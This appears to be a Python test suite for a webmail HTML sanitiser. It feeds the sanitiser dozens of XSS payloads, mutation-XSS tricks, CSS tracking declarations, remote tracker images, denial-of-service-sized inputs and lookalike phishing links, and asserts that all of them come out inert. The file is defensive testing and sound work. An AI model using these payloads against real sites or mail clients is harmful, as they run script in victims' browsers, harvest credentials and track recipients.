"""Hostile mail: what must not come through, and what must."""

import re

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from app.web.html_body import SafeHtml, raster_type, remote_images, safe_html

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
DANGEROUS_TAGS = (
    "script,style,svg,math,form,input,button,select,textarea,meta,base,link,iframe,frame,object,"
    "embed,applet,template,noscript,video,audio,source,picture,title,xmp,plaintext,noembed"
)
SAFE_VALUE = re.compile(r"(https?:|mailto:)", re.IGNORECASE)


def shown(html: str) -> str:
    safe = safe_html(html, {"logo@x": PNG})
    assert safe is not None
    return safe.html


def assert_inert(html: str) -> None:
    """Nothing in it runs, submits, loads from elsewhere, or names our own page's parts."""
    tree = LexborHTMLParser(html)
    body = tree.body
    for node in body.traverse(include_text=False) if body else []:
        assert node.tag not in DANGEROUS_TAGS.split(",")
        for name, value in node.attributes.items():
            assert not name.startswith(("on", "hx-", "data-", "xlink", "xmlns"))
            assert name not in ("id", "class", "srcset", "background", "action", "formaction")
            if name == "href":
                assert SAFE_VALUE.match(value or "")
            if name == "src":
                assert (value or "").startswith("data:image/")
            if name == "style":
                assert not re.search(r"url|image|var|\\|@|expression|import|position", value or "")


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)//>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)' hx-get='/x' hx-on:click='alert(1)' data-hx-post=/x>x</div>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="jAvAsCrIpT:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="java&#x0A;script:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="//evil.example/x">a</a>',
    '<a href="/email/queue">a</a>',
    '<a href="cid:logo@x">a</a>',
    '<a href="https:evil">a</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://tracker.example/x.gif">',
    '<img srcset="https://tracker.example/x.gif 1x">',
    '<table background="https://tracker.example/x.gif"><tr><td background=//t/x>x</table>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>'
    "</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    '<path id="</style><img onerror=alert(1) src>">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<base href='//evil/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<meta http-equiv=set-cookie content='letterbook=x'>",
    "<link rel=stylesheet href=//evil/x.css>",
    "<style>@import '//evil/x.css'; body{background:url(//evil)}</style>",
    "<form action=//evil><input name=password><button formaction=//evil>Go</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p id=main class=top style='color:red'>x</p>",
    "<a name=x id=y href='https://x.example' target=_top>x</a>",
    "<table><tr><td><table><tr></table></table><script>alert(1)</script>",
    "<b><p><i></b><a href='javascript:1'></i></p>",
    "<plaintext><script>alert(1)</script>",
    "\ufeff<script\ufeff>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<img src=x onerror=alert(1)",
    "<a href='https://x.example/' onclick='alert(1)",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_hostile_comes_through(vector: str) -> None:
    assert_inert(shown(vector))
    assert_inert(shown(f"<div><table><tr><td>{vector}</td></tr></table>{vector}</div>"))


@pytest.mark.parametrize(
    "declaration",
    [
        "background:url(https://t.example/x)",
        "background:URL( 'https://t.example/x' )",
        "background:u\\72l(https://t.example/x)",
        "background:\\75 rl(https://t.example/x)",
        "background:image-set('https://t.example/x' 1x)",
        "background:-webkit-image-set(url(x) 1x)",
        "background:cross-fade(url(x),url(y))",
        "background:element(#main)",
        "border:1px solid url(https://t.example/x)",
        "border-image:url(https://t.example/x)",
        "font-family:url(https://t.example/x)",
        "list-style:url(https://t.example/x)",
        "cursor:url(https://t.example/x),auto",
        "content:url(https://t.example/x)",
        "width:expression(alert(1))",
        "color:var(--x)",
        "--x:url(https://t.example/x)",
        "width:attr(title)",
        "width:env(safe-area-inset-top)",
        "behavior:url(x.htc)",
        "-moz-binding:url(x.xml#y)",
        "position:fixed",
        "position:absolute;top:0",
        "z-index:99",
        "animation:x 1s",
        "animation-name:x",
        "transition:all 1s",
        "filter:url(#x)",
        "mask:url(#x)",
        "@import 'https://t.example/x'",
        "color:red}body{background:url(https://t.example/x)",
        "color:{url(x)}",
        "background:[url(x)]",
        "background:(url(x))",
        "color:rgb(url(x))",
        "width:calc(1px + var(--x))",
    ],
)
def test_dangerous_declarations_go(declaration: str) -> None:
    quoted = declaration.replace('"', "&quot;")

    html = shown(f'<p style="{quoted}">x</p>')

    assert_inert(html)
    assert not re.search(r"t\.example|url|fixed|absolute|z-index|animation|transition", html)


def test_entities_in_a_style_are_decoded_before_it_is_judged() -> None:
    html = shown('<p style="background:&#117;rl(https://t.example/x);color:re&#100;">x</p>')

    assert html == '<p style="color: red">x</p>'


def test_one_bad_declaration_leaves_the_good_ones() -> None:
    html = shown('<p style="color:#fff;background:url(x);margin:0 auto">x</p>')

    assert html == '<p style="color: #fff; margin: 0 auto">x</p>'


def test_colours_and_calc_stay() -> None:
    style = "color: rgb(1,2,3); background: rgba(1,2,3,.5); width: calc(1px + 2%)"

    assert f'style="{style}"' in shown(f'<td style="{style}">x') or style in shown(
        f'<p style="{style}">x</p>'
    )


def test_an_ordinary_mail_keeps_its_look() -> None:
    html = shown(
        '<table width="600" cellpadding="4" bgcolor="#eeeeee"><tr><td align="right">'
        '<font color="#123456" size="2">Beton</font><br><b>24</b> m3</td></tr></table>'
    )

    assert 'width="600"' in html
    assert 'bgcolor="#eeeeee"' in html
    assert '<font color="#123456" size="2">Beton</font><br><b>24</b>' in html


def test_links_open_outside_and_say_where_they_lead() -> None:
    html = shown('<a href="https://spostex.pl/?a=1&copy=2">Faktura</a>')

    assert 'href="https://spostex.pl/?a=1&amp;copy=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'title="https://spostex.pl/?a=1&amp;copy=2"' in html


def test_an_image_inside_the_mail_is_shown() -> None:
    assert 'src="data:image/png;base64,' in shown('<img src="cid:logo@x" alt="Logo">')


def test_an_image_that_is_no_raster_image_is_not_shown() -> None:
    safe = safe_html('<img src="cid:x">', {"x": b"<svg xmlns='http://www.w3.org/2000/svg'/>"})

    assert safe == SafeHtml("<img>")


def test_images_are_shown_up_to_a_limit() -> None:
    images = {str(n): PNG + b"\0" * 900_000 for n in range(3)}

    safe = safe_html("".join(f'<img src="cid:{n}">' for n in range(3)), images)

    assert safe is not None
    assert safe.html.count("data:image/png") == 2


def test_remote_images_are_counted_and_not_loaded() -> None:
    safe = safe_html('<img src="https://t.example/1"><img src="//t.example/2" alt="x">', {})

    assert safe == SafeHtml('<img><img alt="x">', remote_images=2)


@pytest.mark.parametrize(
    "html",
    [
        "x" * 1_000_001,
        "<div>" * 300,
        f"<p {' '.join(f'a{n}=1' for n in range(80))}>",
        "<b>x</b>" * 61_000,
    ],
)
def test_over_a_limit_there_is_no_html(html: str) -> None:
    assert safe_html(html, {}) is None


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 200_000,
        "".join(f"<p><b a={n}>" for n in range(70_000)),
        "<table><b>" + "<tr></tr>x" * 90_000,
        "<" * 900_000,
        "<!" * 450_000,
        "<!--" * 200_000,
        '<a "' * 200_000,
        "<a b=" * 200_000,
        "</b" * 300_000,
        "<script>" * 100_000,
        "</script" * 100_000,
        '<p style="' + "(" * 900_000,
    ],
)
def test_costly_mail_is_answered(html: str) -> None:
    safe = safe_html(html[:1_000_000], {})

    assert safe is None or len(safe.html) < 8_000_000


def test_text_stays_text() -> None:
    assert shown("a < b & c &lt;script&gt; &amp;lt;") == "a &lt; b &amp; c &lt;script&gt; &amp;lt;"


PIECES = """
<p> </p> <b> </b> <a/href='https://x.example'> </a> <table> <tr> <td> </td> </table> <ul> <li>
</ul> <svg> <math> <style> </style> <script> </script> <!-- --> <title> <textarea> <form>
<img/src=x> </div> <div/style='color:red'> <i/x='"> <![CDATA[ <noscript> </noscript> <select>
<option> <template> &lt; &#60; \x00 <plaintext> <mglyph> <mtext> <annotation-xml> <foreignObject>
<desc> <br> </br> <h1> <dd> <caption> <col> <tbody> <th> <font> <nobr> <center> ]]> ?> "> '>
"""
MARKUP = st.lists(
    st.one_of(
        st.sampled_from(PIECES.split()),
        st.text(alphabet="<>/='\"!- abps&;#x", max_size=8),
    ),
    max_size=40,
).map("".join)


@given(MARKUP)
def test_what_comes_out_is_inert_and_reads_the_same_to_a_browser(html: str) -> None:
    out = shown(html)

    assert_inert(out)
    assert shown(out) == out


@given(MARKUP)
def test_a_second_cleaner_finds_nothing_left(html: str) -> None:
    out = shown(html)

    assert not re.search(r"<\s*(script|style|svg|math|iframe)", nh3.clean(out), re.IGNORECASE)


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PNG, "image/png"),
        (b"\xff\xd8\xff\xe0", "image/jpeg"),
        (b"GIF89a..", "image/gif"),
        (b"RIFF....WEBPVP8 ", "image/webp"),
        (b"RIFF....WAVE", ""),
        (b"<svg>", ""),
        (b"", ""),
    ],
)
def test_raster_images_are_told_by_their_bytes(content: bytes, kind: str) -> None:
    assert raster_type(content) == kind


@pytest.mark.parametrize(
    ("link", "leads"),
    [
        ('<a href="https://evil.example/x">https://bank.pl/login</a>', True),
        ('<a href="https://evil.example/x"><b>www.bank</b>.pl</a>', True),
        ('<a href="https://evil.example/x">bank.pl</a>', True),
        ('<a href="https://bank.pl.evil.example/">bank.pl/login</a>', True),
        ('<a href="https://www.bank.pl/x">bank.pl</a>', False),
        ('<a href="https://bank.pl/x">https://login.bank.pl</a>', False),
        ('<a href="https://evil.example/x">Click here</a>', False),
        ('<a href="https://evil.example/x">faktura.pdf</a>', False),
        ('<a href="mailto:jan@bank.pl">bank.pl</a>', False),
    ],
)
def test_a_link_that_says_another_host_than_it_has_is_marked(link: str, leads: bool) -> None:
    html = shown(link)

    assert ('<span class="leads"' in html) is leads


def test_a_mail_cannot_mark_links_itself() -> None:
    assert "class" not in shown('<span class="leads">bank.pl</span>')


REMOTE = (
    '<img src="https://t.example/a.gif" width="3"><img src="//t.example/b.png">'
    '<img src="http://t.example/c.gif"><img src="https:"><img src="data:image/png;base64,AA">'
)


def test_remote_images_are_blocked_and_those_that_could_be_shown_counted() -> None:
    safe = safe_html(REMOTE, {})

    assert safe is not None
    assert "t.example" not in safe.html
    assert remote_images(REMOTE) == 2


def test_asked_for_images_come_by_https_only() -> None:
    safe = safe_html(REMOTE, {}, with_remote=True)

    assert safe is not None
    assert '<img width="3" src="https://t.example/a.gif">' in safe.html
    assert '<img src="https://t.example/b.png">' in safe.html
    assert "http://" not in safe.html
    assert "data:" not in safe.html


def test_too_much_html_has_no_images_to_offer() -> None:
    assert remote_images('<img src="https://t.example/a">' + "x" * 1_000_001) == 0
    assert remote_images("<img " + " ".join(f"a{n}" for n in range(99)) + ">") == 0


def test_hundreds_of_thousands_of_numbered_characters_are_not_read() -> None:
    assert safe_html("<p>" + "&#" * 400_000, {}) is None
